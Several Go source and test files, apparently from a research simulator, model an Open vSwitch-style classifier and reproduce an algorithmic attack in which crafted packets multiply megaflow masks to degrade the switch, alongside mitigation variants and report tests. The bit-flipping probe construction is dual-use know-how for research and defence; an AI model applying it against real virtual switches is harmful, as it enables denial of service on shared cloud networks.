			t.Errorf("%s summary %v diverges from legacy %+v", tc.variant, run.Summary, legacy)
		}
	}
}

// TestMitigationPackMatchesLegacy proves the matrix pack reproduces the
// hand-wired mitigation.Evaluate row set on the structural columns.
func TestMitigationPackMatchesLegacy(t *testing.T) {
	p := loadEmbedded(t, "mitigation-matrix.yaml")
	res, err := scenario.Run(p, scenario.RunOptions{})
	if err != nil {
		t.Fatal(err)
	}
	legacy, err := mitigation.Evaluate(attack.TwoField(), []mitigation.Variant{
		mitigation.Vanilla(), mitigation.NoEMC(), mitigation.SMC(), mitigation.EMCPlusSMC(),
		mitigation.SortedTSS(), mitigation.StagedPruning(), mitigation.MaskCap(64),
		mitigation.MaskCapLRUSorted(64), mitigation.FixedFlowLimit(), mitigation.AdaptiveFlowLimit(),
		mitigation.Stateful(), mitigation.CacheLess(),
	}, 256)
	if err != nil {
		t.Fatal(err)
	}
	got := res.Runs[0].Outcomes
	if len(got) != len(legacy) {
		t.Fatalf("%d outcomes, legacy %d", len(got), len(legacy))
	}
	for i := range got {
		if got[i].Name != legacy[i].Name || got[i].Masks != legacy[i].Masks || got[i].FlowLimit != legacy[i].FlowLimit {
			t.Errorf("outcome %d: got %s/%d/%d, legacy %s/%d/%d", i,
				got[i].Name, got[i].Masks, got[i].FlowLimit,
				legacy[i].Name, legacy[i].Masks, legacy[i].FlowLimit)
		}
	}
}

// TestQuickCorpusRuns executes every quick-tagged starter pack in all
// three report formats and requires their expectations to hold.
func TestQuickCorpusRuns(t *testing.T) {
	if testing.Short() {
		t.Skip("corpus run is slow")
	}
	files, err := scenario.DiscoverFS(scenarios.FS)
	if err != nil {
		t.Fatal(err)
	}
	ran := 0
	for _, f := range files {
		p := loadEmbedded(t, f)
		if !p.HasTag("quick") {
			continue
		}
		res, err := scenario.Run(p, scenario.RunOptions{})
		if err != nil {
			t.Fatalf("run %s: %v", p.Name, err)
		}
		if !res.Passed() {
			for _, c := range res.Checks {
				t.Errorf("%s: %s", p.Name, c)
			}
		}
		for _, format := range []string{"human", "json", "csv"} {
			if out := render(t, format, res); len(out) == 0 {
				t.Errorf("%s: empty %s report", p.Name, format)
			}
		}
		ran++
	}
	if ran < 7 {
		t.Fatalf("only %d quick packs ran, want >= 7", ran)
	}
}
