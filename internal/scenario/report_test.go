package scenario_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"policyinject/internal/scenario"
)

// tinyPack is a seconds-long measure-off pack: victim traffic only, so
// the reporter tests stay fast and deterministic.
const tinyPack = `name: tiny
duration: 6
measure:
  mode: off
  cost_samples: 4
expect:
  - metric: final_entries
    op: ">"
    value: 0
`

func tinyResult(t *testing.T) *scenario.Result {
	t.Helper()
	p, err := scenario.LoadBytes("tiny.yaml", []byte(tinyPack))
	if err != nil {
		t.Fatal(err)
	}
	res, err := scenario.Run(p, scenario.RunOptions{})
	if err != nil {
		t.Fatal(err)
	}
	return res
}

// TestReportersConsistent renders one Result through all three formats
// and cross-checks the numbers against the in-memory run.
func TestReportersConsistent(t *testing.T) {
	res := tinyResult(t)
	if !res.Passed() {
		t.Fatalf("tiny pack failed its expectation: %v", res.Checks)
	}
	run := res.Runs[0]

	// JSON: parse back and compare the summary map exactly.
	var doc struct {
		Pack   string `json:"pack"`
		Passed bool   `json:"passed"`
		Runs   []struct {
			Variant string             `json:"variant"`
			Summary map[string]float64 `json:"summary"`
		} `json:"runs"`
		Checks []struct {
			Metric string `json:"metric"`
			Pass   bool   `json:"pass"`
		} `json:"checks"`
	}
	if err := json.Unmarshal(render(t, "json", res), &doc); err != nil {
		t.Fatalf("JSON report does not parse: %v", err)
	}
	if doc.Pack != "tiny" || !doc.Passed || len(doc.Runs) != 1 || doc.Runs[0].Variant != "default" {
		t.Fatalf("JSON header diverges: %+v", doc)
	}
	if len(doc.Runs[0].Summary) != len(run.Summary) {
		t.Fatalf("JSON summary holds %d metrics, run has %d", len(doc.Runs[0].Summary), len(run.Summary))
	}
	for k, v := range run.Summary {
		if doc.Runs[0].Summary[k] != v {
			t.Errorf("JSON summary %s = %g, run has %g", k, doc.Runs[0].Summary[k], v)
		}
	}
	if len(doc.Checks) != 1 || !doc.Checks[0].Pass || doc.Checks[0].Metric != "final_entries" {
		t.Errorf("JSON checks diverge: %+v", doc.Checks)
	}

	// CSV: every summary metric appears as a pack,variant,metric,value row.
	csv := string(render(t, "csv", res))
	for k, v := range run.Summary {
		row := fmt.Sprintf("tiny,default,%s,%g\n", k, v)
		if !strings.Contains(csv, row) {
			t.Errorf("CSV report lacks row %q", strings.TrimSpace(row))
		}
	}
	if !strings.Contains(csv, "check:final_entries > 0,pass") {
		t.Errorf("CSV report lacks the check row:\n%s", csv)
	}

	// Human: pack header, each metric name, and the verdict.
	human := string(render(t, "human", res))
	if !strings.Contains(human, "pack tiny") || !strings.Contains(human, "result: PASS") {
		t.Errorf("human report lacks header or verdict:\n%s", human)
	}
	for k := range run.Summary {
		if !strings.Contains(human, k) {
			t.Errorf("human report lacks metric %s", k)
		}
	}
}

func TestNewReporterRejectsUnknownFormat(t *testing.T) {
	if _, err := scenario.NewReporter("xml"); err == nil {
		t.Fatal("NewReporter(\"xml\") succeeded, want error")
	}
	for _, format := range []string{"", "human", "json", "csv"} {
		if _, err := scenario.NewReporter(format); err != nil {
			t.Errorf("NewReporter(%q): %v", format, err)
		}
	}
}
