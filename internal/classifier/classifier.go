// Package classifier implements the slow-path packet classifier of the
// hypervisor switch, modelled on Open vSwitch's lib/classifier: rules are
// grouped into subtables by identical mask, subtables are hash tables over
// masked keys, and per-field prefix tries let the classifier skip subtables
// that cannot match a packet.
//
// Besides the matched rule, every lookup synthesises a megaflow — the
// broadest (key, mask) pair guaranteed to receive the same verdict — by
// recording exactly the bits examined:
//
//   - a trie consult contributes the examined prefix of the field
//     (divergence depth), and
//   - a hash probe of a subtable contributes the subtable's whole mask.
//
// The megaflow is what the fast path caches. Its mask diversity is the
// attack surface studied in the paper: adversarial packets make the trie
// consults contribute prefixes of every possible length, minting one
// distinct mask per length combination.
package classifier

import (
	"fmt"
	"sort"
	"strings"

	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
	"policyinject/internal/trie"
)

// DefaultPrefixFields are the fields with prefix tracking enabled.
//
// Upstream OVS defaults to nw_src/nw_dst only; reproducing the paper's
// published mask counts (512 and 8192) additionally requires
// divergence-depth granularity on the L4 ports, as produced by the
// Calico/Kubernetes datapaths the demo targeted. See DESIGN.md §2.
var DefaultPrefixFields = []flow.FieldID{
	flow.FieldIPSrc, flow.FieldIPDst, flow.FieldTPSrc, flow.FieldTPDst,
	flow.FieldIPv6SrcHi, flow.FieldIPv6SrcLo, flow.FieldIPv6DstHi, flow.FieldIPv6DstLo,
}

// Config tunes a Classifier.
type Config struct {
	// PrefixFields lists the fields maintained in prefix tries. Nil means
	// DefaultPrefixFields. An explicitly empty, non-nil slice disables
	// prefix tracking entirely (the "no unwildcarding" ablation).
	PrefixFields []flow.FieldID
}

// fieldPlen records that a subtable matches a prefix-tracked field with a
// given prefix length.
type fieldPlen struct {
	field flow.FieldID
	plen  int
}

type subtable struct {
	mask        flow.Mask
	rules       map[flow.Key][]*flowtable.Rule // masked key -> rules, best first
	maxPriority int
	prefixes    []fieldPlen // trie gates applicable to this subtable
	nRules      int
}

// Classifier is the slow-path rule set. Not safe for concurrent mutation;
// the dataplane serialises upcalls.
type Classifier struct {
	cfg       Config
	subtables []*subtable // sorted by maxPriority descending
	byMask    map[flow.Mask]*subtable
	tries     map[flow.FieldID]*trie.Trie
	nRules    int
}

// New returns an empty classifier.
func New(cfg Config) *Classifier {
	if cfg.PrefixFields == nil {
		cfg.PrefixFields = DefaultPrefixFields
	}
	c := &Classifier{
		cfg:    cfg,
		byMask: make(map[flow.Mask]*subtable),
		tries:  make(map[flow.FieldID]*trie.Trie),
	}
	for _, f := range cfg.PrefixFields {
		c.tries[f] = trie.New(f.Bits())
	}
	return c
}

// Len returns the number of inserted rules.
func (c *Classifier) Len() int { return c.nRules }

// NumSubtables returns the number of distinct rule masks.
func (c *Classifier) NumSubtables() int { return len(c.subtables) }

// Insert adds a rule. The rule must already carry its insertion sequence
// (i.e. come from a flowtable.Table) so that the first-added-wins tie-break
// is preserved; Insert panics on a zero sequence to catch misuse early.
func (c *Classifier) Insert(r *flowtable.Rule) {
	if r.Seq() == 0 {
		panic("classifier: rule has no insertion sequence; insert into a flowtable.Table first")
	}
	st := c.byMask[r.Match.Mask]
	if st == nil {
		st = &subtable{
			mask:  r.Match.Mask,
			rules: make(map[flow.Key][]*flowtable.Rule),
		}
		for _, f := range c.cfg.PrefixFields {
			plen, isPrefix := r.Match.Mask.PrefixLen(f)
			if isPrefix && plen > 0 {
				st.prefixes = append(st.prefixes, fieldPlen{field: f, plen: plen})
			}
		}
		c.byMask[r.Match.Mask] = st
		c.subtables = append(c.subtables, st)
	}
	mk := r.Match.Mask.Apply(r.Match.Key)
	bucket := st.rules[mk]
	i := sort.Search(len(bucket), func(i int) bool { return !better(bucket[i], r) })
	bucket = append(bucket, nil)
	copy(bucket[i+1:], bucket[i:])
	bucket[i] = r
	st.rules[mk] = bucket
	st.nRules++
	if r.Priority > st.maxPriority || st.nRules == 1 {
		st.maxPriority = r.Priority
	}
	c.nRules++

	// Feed the tries: one prefix per trie-gated field of the subtable.
	for _, fp := range st.prefixes {
		c.tries[fp.field].Insert(r.Match.Key.Get(fp.field), fp.plen)
	}
	c.resort()
}

// Remove deletes a rule previously inserted, reporting whether it was
// present.
func (c *Classifier) Remove(r *flowtable.Rule) bool {
	st := c.byMask[r.Match.Mask]
	if st == nil {
		return false
	}
	mk := r.Match.Mask.Apply(r.Match.Key)
	bucket := st.rules[mk]
	found := -1
	for i, have := range bucket {
		if have == r {
			found = i
			break
		}
	}
	if found < 0 {
		return false
	}
	bucket = append(bucket[:found], bucket[found+1:]...)
	if len(bucket) == 0 {
		delete(st.rules, mk)
	} else {
		st.rules[mk] = bucket
	}
	st.nRules--
	c.nRules--
	for _, fp := range st.prefixes {
		c.tries[fp.field].Remove(r.Match.Key.Get(fp.field), fp.plen)
	}
	if st.nRules == 0 {
		delete(c.byMask, st.mask)
		for i, have := range c.subtables {
			if have == st {
				c.subtables = append(c.subtables[:i], c.subtables[i+1:]...)
				break
			}
		}
	} else {
		st.maxPriority = 0
		first := true
		for _, b := range st.rules {
			for _, rr := range b {
				if first || rr.Priority > st.maxPriority {
					st.maxPriority = rr.Priority
					first = false
				}
			}
		}
		c.resort()
	}
	return true
}

func (c *Classifier) resort() {
	sort.SliceStable(c.subtables, func(i, j int) bool {
		return c.subtables[i].maxPriority > c.subtables[j].maxPriority
	})
}

// better reports whether rule a takes precedence over rule b: higher
// priority first, then earlier installation.
func better(a, b *flowtable.Rule) bool {
	if a.Priority != b.Priority {
		return a.Priority > b.Priority
	}
	return a.Seq() < b.Seq()
}

// Stats describes the work one lookup performed, for the benchmark
// harness.
type Stats struct {
	SubtablesProbed  int // hash probes executed
	SubtablesSkipped int // subtables skipped via trie gates
	TrieConsults     int // individual trie lookups
}

// Result is the outcome of a classifier lookup.
type Result struct {
	// Rule is the winning rule, or nil when nothing matched.
	Rule *flowtable.Rule
	// Megaflow is the widest match guaranteed to yield the same rule for
	// every key it covers; ready to be installed into the fast-path cache.
	// On a total miss it covers the examined bits proving the miss.
	Megaflow flow.Match
	Stats    Stats
}

// Lookup classifies k and synthesises the megaflow.
func (c *Classifier) Lookup(k flow.Key) Result {
	var wc flow.Mask
	var best *flowtable.Rule
	var stats Stats

	for _, st := range c.subtables {
		if best != nil && best.Priority > st.maxPriority {
			break // sorted order: nothing better can follow
		}
		skip := false
		for _, fp := range st.prefixes {
			res := c.tries[fp.field].Lookup(k.Get(fp.field), fp.plen)
			stats.TrieConsults++
			wc.SetPrefix(fp.field, res.CheckBits)
			if !res.CanMatch {
				skip = true
				break
			}
		}
		if skip {
			stats.SubtablesSkipped++
			continue
		}
		stats.SubtablesProbed++
		wc = wc.Union(st.mask)
		for _, r := range st.rules[st.mask.Apply(k)] {
			if best == nil || better(r, best) {
				best = r
			}
			break // bucket is ordered best-first
		}
	}

	return Result{
		Rule:     best,
		Megaflow: flow.Match{Key: wc.Apply(k), Mask: wc},
		Stats:    stats,
	}
}

// String summarises the classifier state: one line per subtable.
func (c *Classifier) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "classifier: %d rules in %d subtables\n", c.nRules, len(c.subtables))
	for _, st := range c.subtables {
		gates := make([]string, 0, len(st.prefixes))
		for _, fp := range st.prefixes {
			gates = append(gates, fmt.Sprintf("%s/%d", fp.field.Name(), fp.plen))
		}
		fmt.Fprintf(&b, "  mask[%d rules, maxprio %d, tries: %s]\n",
			st.nRules, st.maxPriority, strings.Join(gates, ","))
	}
	return b.String()
}
