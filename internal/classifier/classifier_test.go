package classifier

import (
	"math/rand"
	"testing"

	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
)

// install inserts r into both the reference table and the classifier,
// returning the stored rule.
func install(tbl *flowtable.Table, c *Classifier, r flowtable.Rule) *flowtable.Rule {
	stored := tbl.Insert(r)
	c.Insert(stored)
	return stored
}

func ipSrcRule(prefix uint64, plen, prio int, v flowtable.Verdict) flowtable.Rule {
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, prefix)
	m.Mask.SetPrefix(flow.FieldIPSrc, plen)
	return flowtable.Rule{Match: m, Priority: prio, Action: flowtable.Action{Verdict: v}}
}

func keyIPSrc(ip uint64) flow.Key {
	var k flow.Key
	k.Set(flow.FieldIPSrc, ip)
	return k
}

// paperACL installs the paper's Fig. 2a ACL: allow ip_src 10.0.0.0/8,
// default deny.
func paperACL(t testing.TB) (*flowtable.Table, *Classifier) {
	t.Helper()
	var tbl flowtable.Table
	c := New(Config{})
	install(&tbl, c, ipSrcRule(0x0a000000, 8, 10, flowtable.Allow))
	install(&tbl, c, flowtable.Rule{Priority: 0}) // deny *
	return &tbl, c
}

func TestLookupVerdicts(t *testing.T) {
	_, c := paperACL(t)
	if r := c.Lookup(keyIPSrc(0x0a636363)); r.Rule == nil || r.Rule.Action.Verdict != flowtable.Allow {
		t.Fatalf("10.99.99.99: %+v", r.Rule)
	}
	if r := c.Lookup(keyIPSrc(0xc0a80001)); r.Rule == nil || r.Rule.Action.Verdict != flowtable.Deny {
		t.Fatalf("192.168.0.1: %+v", r.Rule)
	}
}

// TestFig2bMegaflows reproduces paper Fig. 2b exactly: the megaflow
// key/mask pairs OVS generates for the single-field ACL, viewed through
// the first octet of ip_src. One probe packet per divergence depth.
func TestFig2bMegaflows(t *testing.T) {
	_, c := paperACL(t)

	cases := []struct {
		probe    uint64 // first octet of the probing packet's ip_src
		wantKey  uint64 // expected megaflow key, first octet
		wantMask uint64 // expected megaflow mask, first octet
		verdict  flowtable.Verdict
	}{
		{0x0a, 0x0a, 0xff, flowtable.Allow}, // 00001010/11111111 allow
		{0x80, 0x80, 0x80, flowtable.Deny},  // 10000000/10000000 deny
		{0x40, 0x40, 0xc0, flowtable.Deny},  // 01000000/11000000 deny
		{0x20, 0x20, 0xe0, flowtable.Deny},  // 00100000/11100000 deny
		{0x10, 0x10, 0xf0, flowtable.Deny},  // 00010000/11110000 deny
		{0x00, 0x00, 0xf8, flowtable.Deny},  // 00000000/11111000 deny
		{0x0c, 0x0c, 0xfc, flowtable.Deny},  // 00001100/11111100 deny
		{0x08, 0x08, 0xfe, flowtable.Deny},  // 00001000/11111110 deny
		{0x0b, 0x0b, 0xff, flowtable.Deny},  // 00001011/11111111 deny
	}
	seenMasks := map[flow.Mask]bool{}
	for _, tc := range cases {
		res := c.Lookup(keyIPSrc(tc.probe << 24))
		if res.Rule == nil || res.Rule.Action.Verdict != tc.verdict {
			t.Fatalf("probe %#02x: verdict %v", tc.probe, res.Rule)
		}
		gotKey := res.Megaflow.Key.Get(flow.FieldIPSrc) >> 24
		gotMask := res.Megaflow.Mask.Apply(flow.Key(flow.ExactMask)).Get(flow.FieldIPSrc) >> 24
		if gotKey != tc.wantKey || gotMask != tc.wantMask {
			t.Errorf("probe %#08b: megaflow %#08b/%#08b, want %#08b/%#08b",
				tc.probe, gotKey, gotMask, tc.wantKey, tc.wantMask)
		}
		seenMasks[res.Megaflow.Mask] = true
	}
	// Fig. 2b: 9 entries but 8 distinct masks — prefix lengths 1..8, with
	// the exact-allow and the last deny sharing the full /8 mask. The
	// paper: "This technique creates 8 masks and so 8 iterations".
	if len(seenMasks) != 8 {
		t.Errorf("distinct masks = %d, want 8", len(seenMasks))
	}
}

func TestLookupStats(t *testing.T) {
	_, c := paperACL(t)
	// A diverging packet skips the allow subtable and probes only deny.
	res := c.Lookup(keyIPSrc(0xc0000000))
	if res.Stats.SubtablesSkipped != 1 || res.Stats.SubtablesProbed != 1 || res.Stats.TrieConsults != 1 {
		t.Errorf("stats = %+v", res.Stats)
	}
}

func TestTotalMissMegaflow(t *testing.T) {
	var tbl flowtable.Table
	c := New(Config{})
	install(&tbl, c, ipSrcRule(0x0a000000, 8, 10, flowtable.Allow))
	// No catch-all: 192.x misses entirely.
	res := c.Lookup(keyIPSrc(0xc0000001))
	if res.Rule != nil {
		t.Fatalf("rule = %v, want nil", res.Rule)
	}
	// The megaflow must still cover the examined bit (divergence depth 1).
	if plen, ok := res.Megaflow.Mask.PrefixLen(flow.FieldIPSrc); !ok || plen != 1 {
		t.Errorf("miss megaflow prefix = %d,%v", plen, ok)
	}
}

func TestRemoveRestoresState(t *testing.T) {
	var tbl flowtable.Table
	c := New(Config{})
	allow := install(&tbl, c, ipSrcRule(0x0a000000, 8, 10, flowtable.Allow))
	install(&tbl, c, flowtable.Rule{Priority: 0})

	if !c.Remove(allow) {
		t.Fatal("Remove failed")
	}
	if c.Remove(allow) {
		t.Fatal("double Remove succeeded")
	}
	if c.Len() != 1 || c.NumSubtables() != 1 {
		t.Fatalf("len=%d subtables=%d", c.Len(), c.NumSubtables())
	}
	// 10.x packets now hit deny, and the allow trie gate must be gone:
	// the megaflow should not unwildcard any ip_src bits.
	res := c.Lookup(keyIPSrc(0x0a000001))
	if res.Rule == nil || res.Rule.Action.Verdict != flowtable.Deny {
		t.Fatalf("verdict after remove: %v", res.Rule)
	}
	if !res.Megaflow.Mask.IsZero() {
		t.Errorf("megaflow mask not empty after removing the only prefix rule: %v", res.Megaflow)
	}
}

func TestInsertPanicsWithoutSeq(t *testing.T) {
	c := New(Config{})
	defer func() {
		if recover() == nil {
			t.Fatal("Insert without sequence did not panic")
		}
	}()
	r := ipSrcRule(0, 0, 0, flowtable.Deny)
	c.Insert(&r)
}

func TestFirstAddedWinsAcrossSubtables(t *testing.T) {
	var tbl flowtable.Table
	c := New(Config{})
	// Same priority, overlapping, different masks -> different subtables.
	first := install(&tbl, c, ipSrcRule(0x0a000000, 8, 5, flowtable.Allow))
	install(&tbl, c, ipSrcRule(0x0a000000, 4, 5, flowtable.Deny))
	res := c.Lookup(keyIPSrc(0x0a000001))
	if res.Rule != first {
		t.Fatalf("got %v, want first-added allow", res.Rule)
	}
}

func TestPrefixTrackingDisabled(t *testing.T) {
	var tbl flowtable.Table
	c := New(Config{PrefixFields: []flow.FieldID{}}) // explicit: none
	install(&tbl, c, ipSrcRule(0x0a000000, 8, 10, flowtable.Allow))
	install(&tbl, c, flowtable.Rule{Priority: 0})

	res := c.Lookup(keyIPSrc(0xc0000001))
	if res.Rule.Action.Verdict != flowtable.Deny {
		t.Fatal("wrong verdict")
	}
	// Without tries every subtable is probed and contributes its full
	// mask: the megaflow is /8, not the divergence prefix /1.
	if plen, _ := res.Megaflow.Mask.PrefixLen(flow.FieldIPSrc); plen != 8 {
		t.Errorf("megaflow prefix = %d, want 8 (full subtable mask)", plen)
	}
	if res.Stats.TrieConsults != 0 || res.Stats.SubtablesSkipped != 0 {
		t.Errorf("stats = %+v", res.Stats)
	}
}

func TestNonPrefixMaskGetsNoTrieGate(t *testing.T) {
	var tbl flowtable.Table
	c := New(Config{})
	var m flow.Match
	flow.FieldByID(flow.FieldIPSrc).SetMask(&m.Mask, 0x00ff00ff) // not a prefix
	m.Key.Set(flow.FieldIPSrc, 0x000a0001)
	install(&tbl, c, flowtable.Rule{Match: m, Priority: 3, Action: flowtable.Action{Verdict: flowtable.Allow}})

	res := c.Lookup(keyIPSrc(0xff0aff01))
	if res.Rule == nil || res.Rule.Action.Verdict != flowtable.Allow {
		t.Fatalf("rule = %v", res.Rule)
	}
	if res.Stats.TrieConsults != 0 {
		t.Errorf("non-prefix mask consulted a trie: %+v", res.Stats)
	}
}

// randomRules builds a random two-field rule set in the style CMS ACLs
// produce: prefix matches on ip_src, exact-or-absent tp_dst, a catch-all.
func randomRules(rng *rand.Rand, n int) []flowtable.Rule {
	rules := make([]flowtable.Rule, 0, n+1)
	for i := 0; i < n; i++ {
		var m flow.Match
		plen := rng.Intn(33)
		m.Key.Set(flow.FieldIPSrc, rng.Uint64()&0xffffffff)
		m.Mask.SetPrefix(flow.FieldIPSrc, plen)
		if rng.Intn(2) == 0 {
			m.Key.Set(flow.FieldTPDst, uint64(rng.Intn(1024)))
			m.Mask.SetExact(flow.FieldTPDst)
		}
		rules = append(rules, flowtable.Rule{
			Match:    m,
			Priority: rng.Intn(4),
			Action:   flowtable.Action{Verdict: flowtable.Verdict(rng.Intn(2))},
		})
	}
	rules = append(rules, flowtable.Rule{Priority: -1}) // catch-all deny
	return rules
}

func randomKey(rng *rand.Rand) flow.Key {
	var k flow.Key
	// Bias keys toward rule space so matches actually happen.
	if rng.Intn(2) == 0 {
		k.Set(flow.FieldIPSrc, rng.Uint64()&0xff)
	} else {
		k.Set(flow.FieldIPSrc, rng.Uint64()&0xffffffff)
	}
	k.Set(flow.FieldTPDst, uint64(rng.Intn(1024)))
	return k
}

// TestDifferentialAgainstLinearTable cross-checks classifier verdicts
// against the reference linear table on random rule sets and probes.
func TestDifferentialAgainstLinearTable(t *testing.T) {
	rng := rand.New(rand.NewSource(11))
	for trial := 0; trial < 60; trial++ {
		var tbl flowtable.Table
		c := New(Config{})
		for _, r := range randomRules(rng, 1+rng.Intn(20)) {
			install(&tbl, c, r)
		}
		for probe := 0; probe < 200; probe++ {
			k := randomKey(rng)
			want := tbl.Lookup(k)
			got := c.Lookup(k).Rule
			if want != got {
				t.Fatalf("trial %d: lookup(%v):\n got %v\nwant %v\n%s", trial, k, got, want, c)
			}
		}
	}
}

// TestMegaflowSoundness verifies THE invariant megaflow caching relies on:
// every key covered by a synthesised megaflow receives the same rule as
// the key that synthesised it. Violations would mean the fast path serves
// wrong verdicts — cache poisoning, not just slowness.
func TestMegaflowSoundness(t *testing.T) {
	rng := rand.New(rand.NewSource(13))
	for trial := 0; trial < 40; trial++ {
		var tbl flowtable.Table
		c := New(Config{})
		for _, r := range randomRules(rng, 1+rng.Intn(15)) {
			install(&tbl, c, r)
		}
		for probe := 0; probe < 60; probe++ {
			k := randomKey(rng)
			res := c.Lookup(k)
			if !res.Megaflow.Matches(k) {
				t.Fatalf("trial %d: megaflow does not cover its own key", trial)
			}
			// Mutate k arbitrarily outside the megaflow mask; verdict must
			// be identical.
			for mut := 0; mut < 20; mut++ {
				k2 := k
				k2.Set(flow.FieldIPSrc, rng.Uint64()&0xffffffff)
				k2.Set(flow.FieldTPDst, rng.Uint64()&0xffff)
				k2.Set(flow.FieldTPSrc, rng.Uint64()&0xffff)
				for i := range k2 {
					k2[i] = k2[i]&^res.Megaflow.Mask[i] | k[i]&res.Megaflow.Mask[i]
				}
				if !res.Megaflow.Matches(k2) {
					continue
				}
				want := tbl.Lookup(k2)
				if want != res.Rule {
					t.Fatalf("trial %d: megaflow %v unsound:\nk  = %v -> %v\nk2 = %v -> %v",
						trial, res.Megaflow, k, res.Rule, k2, want)
				}
			}
		}
	}
}

// TestMaskCrossProduct verifies the attack's multiplication law at
// classifier level: two single-field whitelist rules produce one distinct
// megaflow mask per (depth_a, depth_b) combination.
func TestMaskCrossProduct(t *testing.T) {
	var tbl flowtable.Table
	c := New(Config{})
	// Rule 1: allow from one exact IP (32-bit field).
	var m1 flow.Match
	m1.Key.Set(flow.FieldIPSrc, 0x0a000001)
	m1.Mask.SetExact(flow.FieldIPSrc)
	install(&tbl, c, flowtable.Rule{Match: m1, Priority: 10, Action: flowtable.Action{Verdict: flowtable.Allow}})
	// Rule 2: allow to one exact port (16-bit field).
	var m2 flow.Match
	m2.Key.Set(flow.FieldTPDst, 80)
	m2.Mask.SetExact(flow.FieldTPDst)
	install(&tbl, c, flowtable.Rule{Match: m2, Priority: 10, Action: flowtable.Action{Verdict: flowtable.Allow}})
	install(&tbl, c, flowtable.Rule{Priority: 0}) // deny *

	masks := map[flow.Mask]bool{}
	for d1 := 0; d1 < 32; d1++ {
		for d2 := 0; d2 < 16; d2++ {
			var k flow.Key
			k.Set(flow.FieldIPSrc, 0x0a000001^(1<<uint(31-d1)))
			k.Set(flow.FieldTPDst, uint64(80^(1<<uint(15-d2))))
			res := c.Lookup(k)
			if res.Rule == nil || res.Rule.Action.Verdict != flowtable.Deny {
				t.Fatalf("d1=%d d2=%d: verdict %v", d1, d2, res.Rule)
			}
			masks[res.Megaflow.Mask] = true
		}
	}
	if len(masks) != 512 {
		t.Fatalf("distinct masks = %d, want 512 (32x16)", len(masks))
	}
}

// TestIPv6TrieGating: the v6 address halves are prefix-tracked like the
// v4 fields, so divergence depths (and hence megaflow masks) ladder over
// 64 bits per half.
func TestIPv6TrieGating(t *testing.T) {
	var tbl flowtable.Table
	c := New(Config{})
	var m flow.Match
	m.Key.Set(flow.FieldIPv6SrcHi, 0x20010db800000001)
	m.Mask.SetExact(flow.FieldIPv6SrcHi)
	install(&tbl, c, flowtable.Rule{Match: m, Priority: 10, Action: flowtable.Action{Verdict: flowtable.Allow}})
	install(&tbl, c, flowtable.Rule{Priority: 0})

	masks := map[flow.Mask]bool{}
	for d := 0; d < 64; d++ {
		var k flow.Key
		k.Set(flow.FieldIPv6SrcHi, 0x20010db800000001^(1<<uint(63-d)))
		res := c.Lookup(k)
		if res.Rule == nil || res.Rule.Action.Verdict != flowtable.Deny {
			t.Fatalf("depth %d: %v", d, res.Rule)
		}
		if plen, ok := res.Megaflow.Mask.PrefixLen(flow.FieldIPv6SrcHi); !ok || plen != d+1 {
			t.Fatalf("depth %d: megaflow prefix %d,%v", d, plen, ok)
		}
		masks[res.Megaflow.Mask] = true
	}
	if len(masks) != 64 {
		t.Fatalf("distinct masks = %d, want 64", len(masks))
	}
}

// TestCTStateNonPrefixMaskNoGate: ct_state matches use partial bit masks
// (e.g. +trk+new is 0x3/0x3), which must never acquire a trie gate — the
// field is flags, not a prefix space.
func TestCTStateSubtablesProbeCorrectly(t *testing.T) {
	var tbl flowtable.Table
	c := New(Config{})
	var m flow.Match
	flow.FieldByID(flow.FieldCTState).SetMask(&m.Mask, flow.CTTracked|flow.CTEstablished)
	m.Key.Set(flow.FieldCTState, flow.CTTracked|flow.CTEstablished)
	install(&tbl, c, flowtable.Rule{Match: m, Priority: 5, Action: flowtable.Action{Verdict: flowtable.Allow}})
	install(&tbl, c, flowtable.Rule{Priority: 0})

	var est flow.Key
	est.Set(flow.FieldCTState, flow.CTTracked|flow.CTEstablished|flow.CTReply)
	res := c.Lookup(est)
	if res.Rule == nil || res.Rule.Action.Verdict != flowtable.Allow {
		t.Fatalf("est key: %v", res.Rule)
	}
	if res.Stats.TrieConsults != 0 {
		t.Fatalf("flag-field subtable consulted a trie: %+v", res.Stats)
	}
	var newK flow.Key
	newK.Set(flow.FieldCTState, flow.CTTracked|flow.CTNew)
	if res := c.Lookup(newK); res.Rule == nil || res.Rule.Action.Verdict != flowtable.Deny {
		t.Fatalf("new key: %v", res.Rule)
	}
}
