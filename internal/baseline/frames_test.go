package baseline

import (
	"net/netip"
	"testing"

	"policyinject/internal/dataplane"
	"policyinject/internal/pkt"
)

// TestProcessFramesMatchesProcessLoop pins the baseline's frame-first
// contract: ProcessFrames equals a scalar Process loop on decisions and
// counters, and a malformed frame gets its own slot without aborting the
// burst.
func TestProcessFramesMatchesProcessLoop(t *testing.T) {
	build := func() *Switch {
		sw := New(Config{})
		installACL(t, sw, paperACL())
		return sw
	}
	frames := [][]byte{
		pkt.MustBuild(pkt.Spec{
			Src: netip.MustParseAddr("10.1.1.1"), Dst: netip.MustParseAddr("10.2.2.2"),
			Proto: pkt.ProtoUDP, SrcPort: 1, DstPort: 2,
		}),
		{0xde, 0xad}, // malformed
		pkt.MustBuild(pkt.Spec{
			Src: netip.MustParseAddr("192.168.1.1"), Dst: netip.MustParseAddr("10.2.2.2"),
			Proto: pkt.ProtoTCP, SrcPort: 9, DstPort: 22,
		}),
	}

	seqSW, batchSW := build(), build()
	var seqOut []dataplane.Decision
	for i, f := range frames {
		d, err := seqSW.Process(1, 1, f)
		if (err != nil) != (i == 1) {
			t.Fatalf("frame %d: err = %v", i, err)
		}
		seqOut = append(seqOut, d)
	}
	var fb dataplane.FrameBatch
	for _, f := range frames {
		fb.Append(f, 1)
	}
	batchOut := batchSW.ProcessFrames(1, &fb, nil)
	for i := range frames {
		if seqOut[i] != batchOut[i] {
			t.Fatalf("frame %d: scalar %+v != batch %+v", i, seqOut[i], batchOut[i])
		}
	}
	if fb.Err(1) == nil || fb.Err(0) != nil || fb.Err(2) != nil {
		t.Fatalf("error slots wrong: %v %v %v", fb.Err(0), fb.Err(1), fb.Err(2))
	}
	a, b := seqSW.Counters(), batchSW.Counters()
	if a.Packets != b.Packets || a.ParseError != b.ParseError ||
		a.Allowed != b.Allowed || a.Denied != b.Denied {
		t.Fatalf("counters diverge:\n scalar %+v\n batch  %+v", a, b)
	}
	if b.ParseError != 1 {
		t.Fatalf("ParseError = %d, want 1", b.ParseError)
	}
}
