package baseline

import (
